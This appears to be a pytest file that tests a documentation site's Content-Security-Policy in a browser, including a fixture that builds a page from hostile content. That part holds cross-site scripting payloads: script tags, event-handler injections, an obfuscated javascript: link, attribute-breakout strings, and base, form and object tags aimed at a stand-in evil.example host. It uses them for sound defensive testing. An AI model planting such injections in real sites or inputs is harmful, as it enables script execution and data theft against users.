"""The Content-Security-Policy in Chromium: the site works under it with no violation, and what a
hostile page smuggles in (built with the page checker switched off) does not run or leave the site."""
from __future__ import annotations

import html
import re
from pathlib import Path
from typing import Iterator

import pytest

from sitelib import csp
from tests.helpers import BuiltSite
from tests.hostile import build, make_project
from tools.browser import open_page, wait_for
from tools.searching import open_search, search
from tools.site_server import SUBPATH, free_port, serve

CSP_META = re.compile(r'<meta http-equiv="Content-Security-Policy" content="([^"]*)"')
PAGES = ["", "en/", "esim/", "en/esim/", "en/safety/", "go/", "go/esim/"]


def policy_of(html_file: Path) -> str:
    match = CSP_META.search(html_file.read_text(encoding="utf-8"))
    assert match, f"{html_file} has no Content-Security-Policy"
    return html.unescape(match.group(1))


def test_every_inline_script_of_every_page_is_allowed_by_its_policy(site: BuiltSite) -> None:
    """Computed here from the built pages, to check the build's hashes (taken from the templates)."""
    for html_file in site.dir.rglob("*.html"):
        text, policy = html_file.read_text(encoding="utf-8"), policy_of(html_file)
        for body in csp.inline_scripts(text):
            assert csp.digest(body) in policy, (html_file, body[:80])
        for body in csp.inline_styles(text):
            assert csp.digest(body) in policy, (html_file, body[:80])


def test_a_template_script_holding_jinja_stops_the_build_in_one_line(tmp_path: Path) -> None:
    template = tmp_path / "main.html"
    template.write_text('<script>var lang = {{ page_lang | tojson }};</script>', encoding="utf-8")
    with pytest.raises(csp.PolicyError, match="inline script contains Jinja") as error:
        csp.template_script_hashes([template])
    assert "\n" not in str(error.value)


def test_every_built_page_has_a_policy_that_locks_base_objects_and_forms(site: BuiltSite) -> None:
    for html_file in site.dir.rglob("*.html"):
        policy = policy_of(html_file)
        for directive in ("default-src 'self'", "base-uri 'none'", "object-src 'none'", "form-action 'none'"):
            assert directive in policy, (html_file, policy)
        assert "unsafe-inline" not in policy and "unsafe-eval" not in policy


@pytest.mark.parametrize("path", PAGES)
def test_pages_load_without_a_policy_violation(browser, site: BuiltSite, path: str) -> None:
    visit = open_page(browser, site.url(path), "phone", locale="en-US")
    visit.page.wait_for_load_state("networkidle")
    assert visit.csp_violations() == [] and visit.console_errors == [], visit.console_errors
    visit.close()


def test_not_found_page_has_no_policy_violation(browser, site: BuiltSite) -> None:
    visit = open_page(browser, site.url("no-such-page/"), "desktop", expect_status=404)
    assert visit.csp_violations() == []
    visit.close()


@pytest.mark.parametrize(("home", "query", "expected"), [("", "物联网卡", "iot-card/"), ("en/", "esim", "en/esim/")])
def test_search_and_palette_work_under_the_policy(browser, site: BuiltSite, home: str, query: str,
                                                  expected: str, artifacts: Path) -> None:
    visit = open_page(browser, site.url(home), "desktop")
    page = visit.page
    open_search(page)
    hrefs, _ = search(page, query)
    assert any(href.split("#")[0].split("?")[0] == site.url(expected) for href in hrefs[:3]), hrefs
    page.keyboard.press("Escape")
    before = page.locator("body").get_attribute("data-md-color-scheme")
    page.locator("label.md-header__button[for^=__palette]:visible").first.click()
    wait_for(page, f"document.body.getAttribute('data-md-color-scheme') !== {before!r}")
    page.screenshot(path=str(artifacts / f"csp-palette-{home.strip('/') or 'zh'}.png"))
    assert visit.csp_violations() == [] and visit.console_errors == [], visit.console_errors
    visit.close()


# ---------------------------------------------------------------------------------------------
# A page built from hostile content with the checker off: the policy is the last line of defence.

EVIL = "https://evil.example/"
HOSTILE_BODY = f"""

<script>window.__pwned = "script"; alert(1)</script>

<img src="x" onerror="window.__pwned = 'onerror'; alert(2)">

<svg onload="window.__pwned = 'svg'; alert(3)"></svg>

<base href="{EVIL}">

<object data="{EVIL}plugin.swf"></object>

<style>body {{ display: none }}</style>

<a id="js-link" href="jav&#x61;script:window.__pwned='link';alert(4)">a link</a>

<form id="hostile-form" action="{EVIL}collect" method="get"><input name="q" value="1"><button>go</button></form>
"""
HOSTILE_TITLE = "\"Stay safe</title><script>window.__pwned='title';alert(5)</script>\""
HOSTILE_DESCRIPTION = "'Safe\"><svg onload=\"window.__pwned=`description`;alert(6)\">'"
HOSTILE_URL = "'https://x.example/\" onmouseover=\"window.__pwned=`url`;alert(7)' #"


def hostile_page(text: str) -> str:
    text = re.sub(r"(?m)^title:.*$", lambda _: f"title: {HOSTILE_TITLE}", text, count=1)
    text = re.sub(r"(?m)^description:.*$", lambda _: f"description: {HOSTILE_DESCRIPTION}", text, count=1)
    return text.replace("url: https://", f"url: {HOSTILE_URL}", 1) + HOSTILE_BODY


@pytest.fixture(scope="module")
def hostile_site(tmp_path_factory: pytest.TempPathFactory) -> Iterator[BuiltSite]:
    project = make_project(tmp_path_factory.mktemp("hostile"), checker=False, edits={
        "docs/safety.en.md": hostile_page,
    })
    port = free_port()
    base_url = f"http://127.0.0.1:{port}{SUBPATH}"
    result = build(project, project / "site", site_url=base_url)
    assert result.returncode == 0, result.stderr[-3000:]
    server = serve(project / "site", SUBPATH, port)
    yield BuiltSite(project / "site", base_url)
    server.shutdown()


def test_injected_scripts_styles_base_and_forms_are_blocked(browser, hostile_site: BuiltSite,
                                                            artifacts: Path) -> None:
    visit = open_page(browser, hostile_site.url("en/safety/"), "phone", locale="en-US")
    page = visit.page
    dialogs: list[str] = []
    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    assert "<script>window.__pwned" in (hostile_site.dir / "en/safety/index.html").read_text(encoding="utf-8")
    page.locator(".page-facts__sources a").first.hover()
    page.locator("#js-link").click(no_wait_after=True)
    page.locator("#hostile-form button").click(no_wait_after=True)
    page.wait_for_timeout(500)
    assert page.evaluate("window.__pwned") is None
    assert dialogs == []
    assert visit.foreign_requests(hostile_site.base_url) == []
    assert page.url.startswith(hostile_site.url("en/safety/"))
    assert page.locator("body").is_visible()  # the injected <style> did not apply
    assert page.evaluate("document.baseURI").startswith(hostile_site.base_url)
    blocked = " ".join(visit.csp_violations())
    for directive in ("script-src", "style-src", "base-uri", "form-action"):
        assert directive in blocked, blocked
    page.screenshot(path=str(artifacts / "csp-hostile-safety-phone.png"))
    visit.close()
